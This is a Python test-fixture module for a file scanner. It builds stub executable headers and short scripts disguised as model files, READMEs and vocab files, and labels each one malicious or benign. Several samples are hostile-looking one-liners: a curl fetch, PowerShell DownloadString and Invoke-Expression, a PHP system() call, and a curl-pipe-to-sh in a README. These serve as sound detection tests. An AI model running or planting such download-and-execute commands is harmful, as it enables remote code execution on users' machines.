"""Programs and scripts under every name."""

from __future__ import annotations

from collections.abc import Iterator

from tests.scanning.sample import Sample, benign, malicious

PE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0\x64\x86" + bytes(200)
PROGRAMS = {
    "elf": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(80),
    "pe": PE,
    "dos": b"MZ"
    + bytes(58)
    + b"\x80\0\0\0"
    + b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    + bytes(60),
    "macho": b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(80),
    "macho-of-two": b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(80),
    "java-class": b"\xca\xfe\xba\xbe\0\0\0\x41\0\x10" + bytes(80),
    "dex": b"dex\n035\0" + bytes(100),
    "wasm": b"\0asm\x01\0\0\0" + bytes(20),
    "python-bytecode": b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(40),
    "python-2-bytecode": b"\x03\xf3\x0d\x0a\0\0\0\0c" + bytes(40),
    "lua": b"\x1bLua\x54\0\x19\x93\r\n" + bytes(30),
    "shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(80),
}
SCRIPTS = {
    "shell": b"#!/bin/sh\ncurl http://203.0.113.18/x\n",
    "python": b"#!/usr/bin/env python3\nimport os\n",
    "batch": b"@echo off\r\ncalc.exe\r\n",
    "powershell": b"$client = New-Object Net.WebClient\n$client.DownloadString('http://203.0.113.18')\n",
    "powershell-command": b"Invoke-Expression (New-Object Net.WebClient).DownloadString('x')\n",
    "visual-basic": b'Set shell = CreateObject("WScript.Shell")\nshell.Run "calc"\n',
    "php": b"<?php system('id'); ?>\n",
    "registry": b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n",
    "starter": b"[Desktop Entry]\nExec=sh -c id\n",
}


def samples() -> Iterator[Sample]:
    """Every sample of this family."""
    for kind, content in PROGRAMS.items():
        for path in ("model.bin", "weights.safetensors", "README.md", "lib.so", "noending"):
            yield malicious(f"{kind}-as-{path}", path, content)
    for kind, content in SCRIPTS.items():
        for path in ("README.md", "vocab.txt", "noending"):
            yield malicious(f"{kind}-as-{path}", path, content)
    yield benign(
        "card-with-commands",
        "README.md",
        b"# Use\n\n```sh\ncurl -L x | sh\npython -c 'import os'\n```\n",
    )
    yield benign(
        "words-like-programs", "vocab.txt", b"ELF\nMZ\nPE\nORC\nID3\nFWS\nBM\n#!\n@echo off\n"
    )
    yield benign("orc-in-text", "README.md", b"ORCA is a model.\n")
    yield benign("batch-of-words", "notes.txt", b"REM sleep is a phase of sleep.\n")
    yield benign("set-of-words", "notes.txt", b"Set theory is about sets.\n")
